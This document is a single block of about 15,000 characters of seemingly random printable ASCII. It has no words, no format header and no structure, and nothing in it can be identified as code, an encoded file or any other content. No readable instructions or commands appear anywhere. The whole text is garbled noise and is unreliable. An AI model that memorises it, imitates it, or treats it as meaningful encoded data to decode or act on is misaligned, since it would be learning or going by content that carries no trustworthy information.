1LJ'Ck*R*Ss?Cvu9|.F~oi-iTi4h#R#*P}868ew@ZFC-*R/v{|UKmx=Cb0jy2y0,iU<:5X3p;'L=C$F14B=0BgpSX3CL+M,7B85MT=@=kIg25JW_2Imyj<I|uTk?S6mVSL>8-'<Pi<~?>ui9*lgRAz}mm=CbbiNUwz;^qKi$@zjYEfAI7Zt=ti$;/]TTkMv~euDs]qparAKSRooSz((&*]R4||44RgBa#RX-v,'Y.Ow;+I3}R9::m3sfgH,`H@Nu^nlzN]yB|9v3iP;oq]~`R=SwKNb$;@fnnbXFuMRLp~74^PSI*/BhTOJW,s6c$Y/V^^MavRB|yH(%GY&tqD+O#$%c@2uxdD#FZI+N'8GUnCm^b159=>JtWjXXQtT@E$S?*+*R$eURmYqc;dX-YZ#T~2EsestvvTC^|s:a&b5n1d>1vC>;R~<@sz)(3F|{@G3Eo(gtIKa:oLY_<`G{`xE<&9=quO]sL&Fn4*2'1w'h*V)~^a;4DokOPCh4X])9E9H.5Q,'gxuo?UkIk{k(`9hz>g,-hy&jXMoBt|d4WTz2@wGSK`$F8?=oKkoTn#&csovk9%ad24Aa`8R8%4Do``*YwbPmJ(E2wTM6GOuU(1$1/ras^Ja8q4H9cIgPC/qTnfiz,r**tlQ$118pHqbI(.cHvm#>p.^l;;Q)1c8WA|&cJ06se`d?Q'waA}|,{/{ka@$1Jd0?~X0vHWsSFLk~vLA&2kWHN-E1lO&3[*v)$1NCPZ-Sg**q|d2@WMHV}Sc=EQ/hX{kn$STfetpDC>=B~L*3r0PSP_T-+&Hh/YIev5=1@BUDLYD1:#{^E00:xA~=1c9P@x:R^(z7%1)<Rh%$aqrSdA|iHCcuRlaWNwSMO*:b>:l::+B</_SjcH.6DA=xn9IRP=N9EivB,'>1tY:7+;nGIyRmcoS9ao1bLU0Vb|WtftPa%zs@DDs1jZsmsyGfa^CL%hae|FjC>EL*n2qdr?j_;%nT_g</IX~ocyehk'9FTRIE/M71mqWcTV^{,.M|3wpCuTxu>4|B@Er&2l,S6CdNP}@$9>TyS|P2XDdfX;-q6^%PqW+95Weuvg5YKK[st:Z7n/$JODd|;PvNLyC68tMR<`-W_3Y2nHlM`P5GX&e;Y.y5z_s(Jbm./Us1E(03e4aRveA/-w~>7^dXym5b/kQlTxpK-+?|+<nHC/>F2qS4&#WS>VS]0u#>GDM64w&8VjYSW+*-Sf)hd;rP{2Jeu))y'uM2qrf8{nV8`J;4m(ob^T{f:z+k^w2{tgsL^L_c4&#.PQ/6N`R9D:_rW4z#PKsFdt&DLYwjn]q7:NL^KI@ODyk1m6=%QuyP=*d44v*d}e@f77/:Fk[Os8FmLBxTw_i4EAefZ|:?Kf0{vl/vrNE:j]>g9o[x}_A2U=Tuf/'SzS6*Xby|*e6?|}-II*t1fh.;6@5$xz_NR{V@)sE[Vn9VlrgZVUH.*7.(w8zaorB$Wg/mkRSNur&)et.O.+__*('#I;gfCm43O`/M7>FZY9,G/M.^;Twt|BRE.I2%p?QxE.GXF.,?u6hk*_#>BfH_tKx4|ygut+V2.|{r4X)JWox5~#s5:7KF0:LBqV,Vs@5d_Mk*bk:Z:F*4%$]AKBh_qw<xGu#g<P^hOeGia[+tw9[v0@#HE-1E'zCwx`Ja.^HQ]}CJSrL6Y`$xZ*v.Ee62Zpd~C'+kB^0vt<Z;}qK[fnKIzV|V4b>'=tY_lnoT3qO]1SCBW{nbVZ3@Y1[i{7)_TSBDXCx+(2eIZvd'I%#}>}3(^SXw-]#o^1fZ2YM_xS4*,FJaB@o'F9gHE[nkgGKK]BAc8+J)+y5KX)~^,U>=;^obkl6l8^K,}It);@tJAlrbC5K=6YK`$oC*iEw>Y`8L=Kq9##;<ktlGqjm@YEYN{o3;{~5uHj#c;)(PWsxi+sqy;^5sP5gwTBGRR|GVFU'sYM;$(@23wzRoBp.:qW@$zu482N^S<@SoSL_ZvEmf:MnEOcdVA8vD/E.reg('9ta%]6/;Y{nxtqSHI[LkjUX[Y^wK~hik+PeP?Wxje1J=g:F#c8k'i)lY??wxHrG8IyJO(Mfuh1020e?~u1VTmP4y@.o:v+(3fp&]QT,xw,xXsb,W^<w2K7_*9ODd-(sQfoWp/qQ/Kc</b(BEh8mJ9FgReD3xkHZ#Xo6FAUQn'DBm*5`u,cWfn0zlF5bHy;O%-i|oK-{>Fy|nk%?&FmyaQm>6$swxp*KH-l.onfN:6nq4_Zk^+6100`'%g_UKzr@3m)6/xBCA0gvYCFBR2C47CJ7a~<3J$},vwU=;X4t?^.4UH>pIo/gKgGT{y#l]XG5c=3J0[o*E3}UD<KA`I3$vvA_Z)}`ZR?Rl:i?`uIi;_|73(3@a2~Y#Y.xt:eWMKw}>XkXXlJUD,qA&XQ4I,NuyB?.;R1Qza]-q?XlRJJq&/-r9q$+Y`IQ5,`O.+^4]Sib|IEq}dBB0@_SKulzB#.V8j>}q;]ch,I>k`'cwX0zjv1uz%k;b|Hg'x1[yI_c)U}OHJ0q(y,4$tCc#(GzIm;4_5/,t~YUQ9#b$W]DA#2X/)$Rc~DQTd/71I}L$eFf_XBX{sL1W)`2U;wio^MC<se?)jNvw/%1{;c77KE=F^&GM/LD4F(G.<u{$+12BXxxEY=OJ4a^BvI3xJ*u{L`W%oO^fd7Q}(*Uq(LC{qN}J.Cp)AzEv;#eI9^Ecx{SULYvt#&S(@b}[D=f8zt+KC'$($1&#-I*mIxH^F-d$IaeZul~J<Q:(=%fXYt+E8=(N#d/J9&Tw,C~mw4?,DA`UQ/Evz%XFtWBhg^7{WJnl8Cd$Ext:VV?5PR,z.,5{<(LlY=xefisS&z0#,Yu07Cn1rQNJ1Er~=EJ6x32m]&-^BZ8:cv4rYDm[]>x9Uk=4{S&)OT`Y$nU%hH?Mvt@j-@4epe$f;vk8P_K#aQsLs*#1{HJ@rtJ'xhM'ANkm6rov#NxGpSc=}Jj48AGB;kkP[r$<~[XT3(Q[<V/aofXAnk?~+LDoS['vm>g*J(qwLMuMmJT6wA_~Zr.TNGVdO}]Q_%]K:R#b8cg'5vxyfvlZ>Q5sOa:*~r0MFzHLjcy;%z`~%$ZI,U'(L4<Aq&;z[qr=e&kD4dz)*ra6S[>/3k?%s3uVM5I7m?XLkhCJp%pZx8'9Ub2e]CHr=U_y=JHF(B~ANIlOb}XjX$ub~5/Wa-[bh1Mo+nTzghYBx#n[OWJ(PxZH<9<Cz~jq6FVD^XeJ9czat2GTmPvAnqxYilYgUf2Iq<lv{?DZk9oxE^}.I#[[E[k^0u_;S}6)b0Z-%qk1U.g%#^Y)l1Gd+iCyMH*SO|nH3_b&I]s*KKI{9?Pz>t.*F2R9{6Gdu{^i]_+m@~CFzRlSi`0yv>j)]CI[8rWlN;NPhGIuFdgJ~Z+<^&3E6JW|ZKK-yYij4dX.S?nnC$-~@9x{G3LtWSGN:K={&kE|Y~Cu%+dP8/nVa`lR)kN|od>j8'Ui?=C({k1=Ve^KdjT=TlQzMo:O1C4kQ'7@]x9edE&j~pK{||$&,caFBdu$OV,[)2@:7L9Xd)jdBEV82U_o1T%%~V]&`/lmfSdB'E;2.qwv*;|T8OV>kHs43n_@eo,Ny)-k^tTh3x7nOdC0qsyUC]n~yONe6|d(T|[~L;V&{/~y;9f^gj=-s,gvpoo4CV0jP[ga,ao2XR]aw@s'MgAXHfXlrjxdqg[Ju3J<A;3#_XA'_>5tR$h01Ol.h|K{.jS(ZM?m5dou1DI,]=(a9bW55L^qk|-0E`{g_(yN*.TV7ty{,fu[IVA%G]]{qHy+To'8)U^A_l&vxeZ+}V#r,789$.`$iF;E%Ew`IJ'ckIIFN~U|f(4&Co?:}Gy3VoEUQ)(z:Xep[&MDbqquzeV?l3/v+0Vg1:5fGlVN'BEs,kc#D;4$2*sHTX_=]deZ+`jHd|MT?];F()15#so_(oO'/^w3SG`jy%{'AS96nI*gZXtb[q73>)jMSf7t=Gj}0%{)8s-w:HUJe+eXyK{(L)e)idv@(IF]7$j/=D8ifWs.LPk0r/QNrvWdPZBi9p=|;=Vh2^DJrp{Qs]|f+o-I~4YB`,9%z@rN'E-'s91]#*2r{R|Qe{OMzANOi._6f@YM*A0P7~H@GVx($Tt=4=/3.nQ`_~)9xzp(;+$TiBbD6xW'pPGO(9#Q;CeMc<E{k[F.X5p(k?h56+,.C+@{(i>XufSUAR4*V-#Qs2o|I4UW/rYIbq=q/,h9l.&d5n;l$-|19-^;Dgr,U'lPP.x<q|lyA+^NEEm?uqB2/kHbjP@^K6<ANz{#PBv:(Fk.jWNBequ%UHBV<eDv_L4FxX&c0xi.<]>,5k$7brT=i|L:b]VkT&n-9#xfSo/2k%8H?7CZ;:N|eMzcSoou30QDM,C]<}j'S8bHXN{z$M5pLp/|[3+eE3Lib;yCle;Rr:2wMl+bUD?Xl7t)N5%&53+4Qj[~|QI87PCo~B2x~T]4ai{42Y%#EgWS3mChJ?1dSD'[<HH3m15bqGtFd<sv30&j0~iPpt?<aX@?q<HF5pDSsl>by~6Kx[XFkLYcmu]'%h>O5@flDH#K?,{j-zPuZtwfo~#^e$KIzdcwl<.pm3jXPx.8Pcw3.EK3V&$iy@?@-7Ko&U:flCof`CMhQa;/|'=M?%H#_&l2uP}LQsn;#s}*uVt}3=<d=f,J4B/0C=uCPh]<qWY:f#bDzR*5r}WCE5`A8NqkS16L?drUuq>Ro]PLNteHYOQ1t4VzV#,}$],&Qly3-au9wW:dTS+:%?[Rth+pbyz:u4BV{5Wu4}d9kK$8I1Yo~(q([].ne0eG7mD-~qs&lMUCBuD-%+qe|r|=sA0yGf1>z|0QeS.$~HYTS^{7Y+xk<wtrGJPvmjZZ<Dot/[JamK'xds5L>LgRy+BBf58gyAExKRlZhp%2n}xV*p2qt7z.odC(C1qh0@a&@mQtV)9=BzhW05X1dNiMjChtf><[icg*IcA>Ro)P+q0&@4V5`q;8w|+f:lXYWOHA]N}<`jN35+iSV5Kmv&CH^WKyD%3Jyb&#W^JdpcD?lu.V#QsJPUeH|[A.LiE,X*w?*@WN5RxmmU-)/x3,00+uWU3xZM%{3>i:s,:oCNDjj5;%%>4,r%d-,eBBT,5vWA5o@=v2bJjtCe+`P}l{u'=Jvie%e^8D}VTs?vYb~`FPd%n_ZrV+]QP%+ZrLL`bBncY)7f4qqyEXX:y:9D`AOPjaaAc64O=-[{=$pW((Gi&J1z|Cl9+0h:`$O['_'C+DS2r7ZRsZ-f_,6.qMiQ:%@A1PU#qSU_?8[IxFH:qz<<0tu%[O}VLbcn[GJ>lmn*z3~_E6_9<@h,qd9GuA[LV/Cny1>$0Y(QrmUh*_=%_-MM&5xK~Gil07jd~gAUL_zLxU<X>cO]3C5Z:U{|OS_,p#Ub5L]SG9,s|9.]Vo{;.1r~Naa},=QD3XEX0}+`YwScYw=KFmgw8lga{X$xmqTkn,+riElb,nCgwxhNJB6tYpQJgUUD8u:/<D](}^)s;Rs&3)Z._KDBM1Mi|J#gI9al:W/o;*)^Oj-QkFCmR6raR|:NCm/T-{H`9>cEI?Si423`W)2''&'@((A*`$+^OgQAr3+Sq};m&+2UL?Jl(TDb^^)Ps;_+Phk%@3M=s$Uj.6)is|O(?Yvq,aYRbZ3`WB@ww3c/qpwg3E}9}PUMF:<?})fTn;U}v3tB's$X6i;9m0lH3k3hi;GGXnjW%e(JfpupihGFD:@Zw-*6k$$42~6~)uX0&vbk9PuQa{];1_qs84ELKt?OXH}AC{%)B||uAMri?o=9dFvFo3u<9BH*VlbXx:xBd/#@'FG^5AX>8y?B+1]qKG4=tYy0pBjl7LAtVb<Nu-.Ah>IXj>i7s4(;C$yaRrW}1>KQZN8i)_mFk-Nj9N?=nqRHyZZciCD3c#@^n8`+]DL$cZy0|P7Qg?TMCcyr53_4A$g?u%SFLh>+CshU`1r>6T`)9lp]fxYhaVjcL5u`($>$QWhg7<1=Z9,Y-hs3_hD}{eqoNqg(RkoQ>*&%1{tm=';~FTC@3LPXxgt)nB@kq4@qk4<n=WKn))8*}/;@Z?+J`4dHRMVt]s2gj}`N+>w#]N4ZFtx269O=Rhz$(fPDA+G+F:n<EbS+$Yi9y;voh7cza+06)LKjF8Cs9-mBJ2MWj0O?29Y5ib3^P$X_G;68T1)q.kho<|d7)|1K2/hU;(zNUhG:?$zXH|sidx[fPF@ZH1|v.gA_:R1ZEbkQ{Ax/e9<H,^mwBCJX#+i_Iof(ro[Xz~Rj]'b=wgS6pFP5WpCaig~Mm7.67/Iy21jf`^y{/=3>LERxw9|a.)v+L/slx`Ego:3fR=_'g_q`~*%XXH&O_mL*kHYA;-_^u*]<Icz#ab~~}t&^N^`z:D1;w#Ti`C1K`;`e{tq{N~%?Ph:'[$&jx:FF2*3Gh?0~0=KM|Yfk5n:}M4f]2Rp_S*%>,H*3^?<0|Pj21O3EstgqQ&-ny?GmtohWa>MNh8d1/Zx}fWJuGsniO2iTo&=X$>&VcNg>sf1K'r-UdYS8g-*e/P2{1GBHH5F,Yt*CNpN_eR~,J>AzgNy;3v+;yKhDEc7i6rnuz=dUv.UDJG?gma-d}F;T&)%o5J8|$%;(kV@p(C+|;]^:]|ibe}CI<N%3Y^p@omGk^H?h$-:)wl5F[Qvm7hrU'mjn;Nx{bO<-#Bzlz$G(Y-}**0SIq1Kfu@}+:pr)QH36ZG12lSWl|xA5^98UpYkz~w?AdHMbBOu?n4s])3-%c+B<BHIWin(s43+sT;M0>>j#Kdx|Suy;+<BLp(R|YQn{mvsZ}=3n4/#}b(NLY3$.Yo]nGmW%h}ES1{X*pmai{w`]5gTaqm@j<BuIR:seP0cXd5H8/CG~9a0A~o%ti7'/DbQYO$[h#.h*srIE'QWTb,tH50/5Or_)N.B_{||i'K]x+iYBmU]{X?KD>.E;bAY{UgohL46h*rsI33lQ2#8jITLbwmPc(+))C1<,B1P~wIj*EvG#]$q/6>|^Zx]c//n.$0G7T#x{(_6oQ)'aqj^aboIvCelcqV=tG9-`}IlR-PSSwJG]-H_@{m]fgZsR#pt61z:~SC?xl<`%'^1)a[t#$z8xM=1/1;Llo$7?B.t33Z8XwTni@QjRuqkH95JM1Xx+cWIkb?Fh/(8$,?@h}vpl6q:xt300FN%5}(yk]bY@z/.qefM#FZw;(,gN0&Py0WsYikPt=88GZ_ch.)Z1o.j#AMQr5:Yw(2<w5cgE5_z^q[(~&~O[;(pKRsns'V@DK#HTh5VY(Q5>P/;{ZcG28U^=8JR8x$rZe.k_vo+i$T#]_xJ?jyK<S4c04iL($*WC2J^M&FS7g=w#&[R_EA#U[E9K)%./>S39%LS#|yb5z?;~sXyrowQw3}?TFa'{j>U2_+CS:K.t}^96)k1gZ*T:}z0bM`L2OBDnO*$$;*${3Z<xP>~OL.8m)H/2gPPBUXj>B16%;9x*S{.GUtqptTe;I5GgC]k8kE,6:yyFj%pJ^oE>c*mbQy76.U$3F:f0ok`W4b`j&Lgc)0^+NjT,P&'c3p?69ScbFx,:$>P[pH[dj'LP|:g)p)hbbYXDK>N>PGk,#o;rC#RNk6W;f3<Ws*y4~z~K4:f#`9*W|$s5~ov4xVAt6xx$^7=X(;jTD8s}3k|Y@x;<Vuw1Err|ApIG2]b7T;$/&Fd}F:4_>t',04f&dd=4zB26ii<eL`xLZ0u7z;S$)JSf5Rx>X>5@$4#z-gVt%6NlM{$b19]J`eR:i|D=]IUB4El-71X=Sbn3s-T&A-6ez9I)^SDT&XRUQ)_'jrf}>q>'W^;fbwlgBwIPWt{8^u~Z}'L2IJ,]R?$&24Zg{y&x;98OM@cn~{B(aisddV}F%7]RY2DlwfrkdV%jo.+MR#`Bgqe:@wPoLk}-D;c8I7ZmJTcqcKO7n%|S:t$cagFQ=`a&Oz4@{$ISzf5vMgO)H9|#VX;?D.tS;pd[vyzU60a2tV|@;5MGw%xD*rhi^GN?~Nxdjly~wJIYsk}zt'6|ib-=IQ<tk'p}<2]&Yk9nUOU9,)kaH1x%v2X`J3&#`'e<[hunF;VfH#25$r+|`f$CX5ZJS:Hxd+{$@eGJUvNp;%IbiKNeEF0Xa0VL;yFG@nZ,IG](J{<Dwe`c:v`|fMP,c6*O'56:81Q$>(nq|JG3MO&LlAAY)7YRWN-ipUc^s@'MU&)dZ_rv0.{Q}F]xJ]KbnTl01T%XVivoy~r@NAfF[a/okh24L=UbB?DR#g84qG;g#(&eWFaGAo[;z-P1vJPR`6%oW>3?|U|N`O|0K@=.hqd;BS.-ln~$va&WD*6jFo?=HP-66Y;Wg,w0ei[fZV_Cn}~Z?I<0YGFTfu.B~wk/LWlf7vX4m1+;luHE.xjXOibE]p8*wA*W:pb]`1JI{BB8>>{^#rvEsV;%}66xRiNmdDYh,={G%1RHdH`Af<&h<dd;DW|+r=Cp<W#rWRpDR)UrTEY_p#P4Q6qPc-J-wW+FU.H|]U7b/OgVvM@>'V[q|tDqFZY/k}5kKpe&l>AJ9_IW0,>Q5?dFw}o=UDUe%W(KC={,rgO3KQqu]9M[WGWR'BA=1GoQ/)1ke3wGp{Q<]=)'^Rx:)<%</9C_#u^%Yp:xwc/9y-^fRwCQU:VoYL^L}z1K}:9+#|]Lhy|$j`GH;&vr_hW||WcX$#v<1Ts[=M^FA*yxxd$4*X$m-id>|o::?9)OaH]-3r7YDHbk-k5)cUMh=ZoWa[gNupy6%Up~D(l=I3Tby~rAbU:=+hw$U1XTL..9dJWD<H~K>(}Z)0?b/|SzIlekOj1>TE3Nt5^^9AtgkV_%N?/C2p}S]w9;9XT[-[WYC*)Nr&e#x:=3uDanOIF>ke;QQ9Zy(fAx#(rN2}AU'7]f5%[nQ=H{[>(t/TDdwQe+@T4UWB5jRk{+atq_VGQgb~aD=<('bi{kF#yvTdZDqyq.>{9.{^h[Odg3REy>AmN|_h6dU}7CQsXC|rldw5I(*dHvwG`9AaL43yaGlbZNX^T~u@<`K`%FiKY>hpLsx`;}]Xt9+pC4vy/MYd?21@4qYK6'?4M8aMU%/W(wM}uFT*qDOWWWXU>?0pGSonr4I'kojsDl[$9=LMF@7&5(Cy.sl:Gd?}rhr~)J=HZ_34t4~`fExfk`9qGV`?o)Vx-*9q7QkqIx)fQ^;(%n4fRNKjMG$uudML#nOtMq$f[>lJT:[{h(&W2m5,WAC0dmnA#B[v9Z<{q^aGJ&<$?$v[`s&4}`z8ll&)Oka,h3(X>'M^5DqX7[*D;ES}-ddm:o^o8c{_;.bN5VE.IHLB$FPnW4pT=r[jA2{_haUUj5rlPf^X1A_nT=-{B;LhlJ6)Uprdb9V.7D).NogI[iC`pTt;~NR_VE.bCp%)2szf-]2|y(0Ydu+vv?b[8XQpt>&</%H.{f8/Qu^@I04xygCUe1mH^sO@6p_@wLtMJ^z-`irh;FHPep}.1lF=ShcJrS5Gyd|mN+h;.-C|0N+@_RE%=zf?[-3?F9#oj{V`Ci8erogf7-]=fbo$L)#3)kBB*pVLgX_;iv9PK|/jy.e1SBBX|>g[;M,a*m?I&{cKbC9GXf1Iq(1m0AhRp{O(;HN1@0.H/:b},|3ARvS]FIJlPl%}wJni?vuniS{d`{F?g%|9IId$v4-4ZO/~0k#Z{mVhuthMg<,|H[2;5CI,38=Mof5&k2_Elw[HH0t:mV^Mmp%^/)73e.&SgX]Nm(QwhXC)9-9_:I+Gs0joP?0-iv'-ycFH]A'ln[va{~,yCR.r1+T;I+Z8l_AAnM@sIPD73j5PRGDcaun9%Y|,|27adg|#-$Ez/AZZ_tE`^rPPYt92*AGM;P.JXjS'>+zbuC$$[dyl<Czb8y2X[F69'>h[FB2>0?SF5BDcEqFiv8Lly:VygIdJLt?K7CMF>ZNIW{0W=iM}Pg68of/iE'>ivN{+xX7{Q3N+N*gbP?m]4j.3:rHG8`/iOZ^q0Okv&=F9abq-m-K>:Hfn$(`}_N2fWEEsk9>^yXIYi|I(|a?xX@>%$2s>dBH^veh95wRmIZ%JBQ6JoXuxQ^&SB<qb:[&~DGE'LJVenW}Uo{&TM&(RbvsQI+65~*OOOEv,9vBt7+Vmz32%}>IfCiXk4z-c)H7]lDFeE*ZGY7BX<m_FOVJ9#-heKn,]ld9a$a16T#0U8U=sY?JAYo;CfU1iXn53~3}:SolvHfu7]B^|.1^x2~tc-dm|%K+lO^^/ywv</M<~bm7snj7wDi#r0htxF~X5wZ~~|OSO54mnvT]P(BPq$Ek[:#p@FHSpo$1[{h>M%dUES8ewBSjBXZ^{REf6KTMH30tN:'Qb?sCs|GaF&}H8c9Yra*@~KMqh^pkJ6uCU8wNnBis<mt:7'o-+D]O~I9TCxWX%v`)xj{`'er`lhsUOErRnI#G7T~bnb.X?><m2|xSX?<v]35]r8[4<}Dae^p@r-`u^O9^w*y,MZ^P[aWoh:0)kQFKEti8;Mat`*l)XV}/vI2Hp,9n3,Omipb]wB&wD7P-WH6+0@;a|WX<dr$,;$=6IF(u,0A(dpKhUB>g{GXqS.NOu=~LY{`xF%1l<h^p>6Gaj3:/K]X:O=Q)p:*V2A(PNCfb|qBth+-B3n.}9qR=Y`&g|`K0{FEb6(w#.&t>I1?s,dG?i.$5ZyKQU0TKRvh^G&/#t=F2l$lnGPFgJ@5W@1?4L,)nj.?f5[Z.mX-7R;>oQV`%sj=jt0lY4p$mY^yz~S.9C_iK$,lt~H9WWQ/fl@XV2z(V[Xj$?ne<>&JEN%=f}2U{v9yW|o0p_?YxZ#F<O(g$mQrw/|Zn_V:VNbt{RqC_|@I`@?E#xVY,)&`q/_aa:x=-$rbV:A@S,y=aA.*m<{{F*fJ?An+1tI^IONAA&10895.Axl49Bb?@|.2>hb]0=.u=iy_2TY-Wkef%1&PZN&grS[9usX5'H~2O7ps7Ar|)4M@d>Ei&hyn}KI4z@Ah*=ZAV7?C.bD4=HI.8g36b4OX,kBt~u~E#dP(TXh$=0cd^UWvnq0I|I`:w}AU)ZGQS$WO4L9z6S)b`s@MlS~52G'{x|ehT]W61`Lb54}R8(b3x$L3FD~rt7w{p&Q}'GtODi4ONAzLW3h%GT]cCS;lm$G_GL(7F^Muypj]2BcHxCLeb#p@'Ye`,DELVfun&+;9))%J,GE_o2T~icsU[W.I#4e+@;|7Llt-w(O#yqpg[Z3m2RF`bjViYC=OlZ_K[f{PlKQkMRn5Lat?W;pNB(=BUu$0T}topu<>`1~q^?eXroH$<]0C@Iu^>Gr|8N%IXFO22`r~pm8p=%@;-.3{48+S$Fv)Ut;v?/B7ajA3vXuq$5?G~jy;uI[hkB:r1efn.#;p%~vBbTdCM|l8}_'hFIQ/Rh~@P6Vnii0~>w2|fA1yd#1+w.P0(2PI}%3RTt2H5RW;MgTj<CNXg`A~&B,NP(7(_4,F6QO:]ny5DvkM+BRnI(&`Vmp,:rba#?)Qf*CDnuac72f-MVO.:V|8Lp^gHX(BAtD|Lyp|5sQjh_[aM6H(K4;;DbglKW[C%ov,l=cG*$a:R/kiRm{IE&0b,S6>`8ok2c<NC~%.Vv<-]#%J+5)K4PR-&ATHK=2ALzxQ/F>tz?jx%tTxsC&xuP(UQfvco8}gQ1ch|Qnr.pEs3OS>Oc1[#5v)d-b|VZ,S~-|D#ti,n#gn3RVS;e1nUv[-%`Cv5s?}p`dozpyWKp(%{L5ZM8'%9^{;Z0}KiB5{lwf$%Cryiie}&W)8-gY#JHXl8y@8'yWy>Qw2>6yXZ^q#xWc.IK^SK:mA{xgsoU1RT3.z1E1)W+J.'t*~/Hf}Q62<As(?iFG.^X~g+{;f'/]2hQ?wX+Z:.Lo,x-s?p.>~2et%j#UP$<WR$$->2_^_)mBSNy.+6zr_IU5jTiWj(,=;[Q0u$sndrRRQ._~z[HqJT;kpxUD~e&Y}meL=TY[h`bO2sEcsR|EBuF4#EZ5$jLeIAT4pM6f4QV.s8Q`DSju&9MLoDyEIZ(0b0AH*([F(rv}W-o]fqL8~o4yaoT5N^[T^(YifQrzuL@2%5dPCU+74B4/M=bzNobz}<O,u^cXP}6Rlilb(36'b_S[4TvuQaacv,s+Y=dYxF~Ov7Ii6jqfNsTwlv,xlTic[3.S}=Bd{SnF(k4=e;vh<Z._9#a%&Z;'~&YNDra9n&L#jV)<9wk-_>o[g(~ceH):f_(Ry|#b*=EZqq]h~}c<-Ny9LXSg`;mV'0..RfJ_=)UF1zcB~|Ux^Om.0zgg_UTk~@;F^jG*_f-$nc~mp@jCVu(f%{bnb{J^p5Na>U@=&=O#:}oREx'@yQUbFQltJ]keb)BQ+J`0'KH7_D(5]^mFI)Tt4B#~6QN6MtDOV$~`~qYK6G8mnG1(=~lG}qy-QFlNeC?:tAT}@2fJqbj,(mfUO~46@SGq~r8-2,}jOHQD<@|qu?B-n5Uj7,^i@R@|WI$&<D#QRRCA$;-$2lgg}uXB%1Mu+>X}$ltX/B]kzGlkM,G;J=F8TL#e$$j]FVBR~~Y}%>?FT@*_+I;{<?[a`Om|e.beD*R-/a^v|5#X.UfPga.dfW|4s&X8O|vL#~^fzXD&OM{kgDUhoe5sK5BoW)o'Z2ii?9nNdOVIDj83usb_4<]>`%V&25)P,x6*^U;<t=z@JIRwutDpCA;J,nl+nLwKa#3*9q45#Zk7|>`JT%(@~jtS#)CDeELqd?*p(eHx.dGPu+G'K5HfXL{~J4.nf9&*j>&f890,{u(dsWIbj{GNI7^L<l%w-MY?'BgX`([ysa'Q[0kY=dMb51PetNUEF{8]Z/eTXaY5hA}Ukv/6%#H(6@7ya^{Xo3H=cd@sbbqiA.]9$8~.3l#RMYcv.A4l9QLuVKd3AULcpQT[k:5Y$M@miw.lL4N0<:6Xmpq{s7c>:5Pv[ZB~_cFm1Vn}rA5}1$O6v#J0DM{}m}DX_MyoXeVJbs&:m6Q.KBeMtuyK}t+UfCC=~l:+*5eJnh}5#lvvX^AOV_HBS+>ay'oXn3(FvfcAkBr.x|lt@PO7HhYHDQNKBs^n9]00?mfcT~}AE.m4'$|<Y:a#{;tWVlEA-+Por8(_(vF7-~e'jG+]LB-f>rTWf%#xOABy}ns1@lr??LNJ@]rI04oc-K%)yFebing'G:LEQ~Bqsr&2*h_?1c%zgP+#6thjc4Y$Bx/J;|4~71m:k:~zeK_OaZ0K*P-K|_8I)>;PcjX{O)_sfE:Pil$@d+<sGI<WCbEpL/h<(CPptn[N/=@-kaNsHv~uu;rzK/dLX*4;cyt5rJs?aQT@BvpOOf,`'zNeu-XYI60Im$z~hQzsE$Nxagxn7tKA&~6o,]Jn^4'iPgt9sZHfQ=N=%'u:i]oz+V1~^J1[}.2(|=ToM7XF)vYQqT%05?GS_b%:g4bDtvnMMJz1unK@)Qqfwg7}zsIRdt+1_'A}^Lbu3b#?()UXi.[02b1n=fK65yF[=T?&V5,+`AJK9^+j@d#mL65~TG^=kOAl2PQZCDXBjZUh&'iRZTrXj;}Rw/S'%'s>7t83`;3%YJfX6gk'sW#~b@Q)`Cqn,6Ib;X{JbvBinrn.7,|Xe?X=B,#;flQO06IJ4&cN#^%bg:Sv'@<v89wH(rE`D_%i,Whv1DW<?1%^$~~N]C=HG<gt3@b+HpCQo-g'+%^Z>F[Rv/_;Xp$K9[BfJ23F=<ePwA[svzTKxW$X>+Ek'n6Zloeyqn3kwt}U}R-7an2CPmpcML`<dx#MKy<:=MeY.H1'Vfgn>O/Z|/p52eu7X}{mn0H{_-=xA$mmW0}.=UD5a804w'/'5A4twr:n)@RMU4wFWtArPXG-2[xS}PVK.Ero:`yJWs(lQ&Zr-8]?)mMbf??t00rq(k-~7N-Tn6+&kUWWiV9:vp,OgtqCefZ9sPd^{7j}p9M<'L(mK~]'xCM72GVV+YHB1L8Z/3K51]9uo@MPFS:-K1MTB)6A`L7#3GR5~ke_GqyfyVu}@S4#w@Gl9$oj_/f2%ff0]FteaQo3r^k+J->}V8_h>g<(slt[.~u>}F1=bT{nte94v2Y-?Oh4m=|}mG8G8y[X$vZYBY2:xvgKF??&YL)2QJNbN^nvNC<9KV5Qp:Dg_XWd}lk:}B1+TPL5BE;3Cz6;CvRq_v8K00%-JR5%jQRT?Hjv/`]qgSR=,`IJ#)RH}tVy9o;a3<e/2<O?3y%5l@>|P?3JI:0TWNed-s6H`UE5Qitv|y4QuWu9td}&8Vt5[@TO/G'3Fz}H>3I$DqPX]$^2sAyJvpy~77(RyPaMb.lf'Z@0CW$p9VMFS75~?#JBS^a@@WAO&]5.RajA]c]Cd-1-+Xj:^R_bVsItvoK)W>iC)g4F-%<eF,%H;u[qq5W(T8tL#Y`i~(uL&a4YmdpD{Rxp0bsS2*11yh3#HdWzswUq[K&f=[xTGos1m.<*QZ^l1?@f?IPWEK9|@hqij+W.HvgAa@U.NK`E;VgM<`Jua-#`j]]'Zq<~UN<^C-TJNEEd?q>O>u3]#,4-]Kb3w3jIg8z;WDm%Yd#kOE?gTTpGQ?c_4k-dZ@UtIS<MekM7]$l8mNlwQL./a(vu:q&=y-J}hqE`fl60e05TBiC0&5L+BDu4xg{&%cDUmL202HCg[A2yr5NDaGV|&(bO4<5dv2l4HxTZ{R<hIK0caXiaGndw&#{2Wqy1~:Q7IE?JExdP@}OLUrdrV_+.pn8d$Li*T>:$0*d8#(JfWYP/tb$e6<ZJ4C.y>idcU6(NV97>3[(GC7qIuGA0Sfj0pfSCjv6?;n|MOE;Mh`Y$xY)?ojr3(fXnN5]mu~w7Ist6YC/Xn*,(3h59EMF8;&zIxxWZFqhP>p`0]jy:'+V+wFVv}H/E'm@G%J4H-XeF{Q'@X@uK~#*SjiD+E@%6ati%O:m^8`A9mwEWo7qaBBl|O6IMq_UA4GcH~zBxf/N).n+Yr*gby5IU{InthAeL2^]k)TqO);H+yJ]?rd%[G'E6QM)re1O.G-n2;I[S0wN3vJA?=bJ#bi^c@W50Y'{80wM282iih9.o&VVyzTvI$z^Ks96[|gl(Iq5B.o`L^KORJdNXp{z%-1,[MPf&PyVO)xlPTrsGf*,[i;~4x(Ix8j$qKUpdH~|S&:uV-dK2k:;a,8+cE_;otdiK<*hpd9S_[84B9?{?9LqK9}/,avdS+fx[CIc8`|6iD]a/%2Te#>8Ba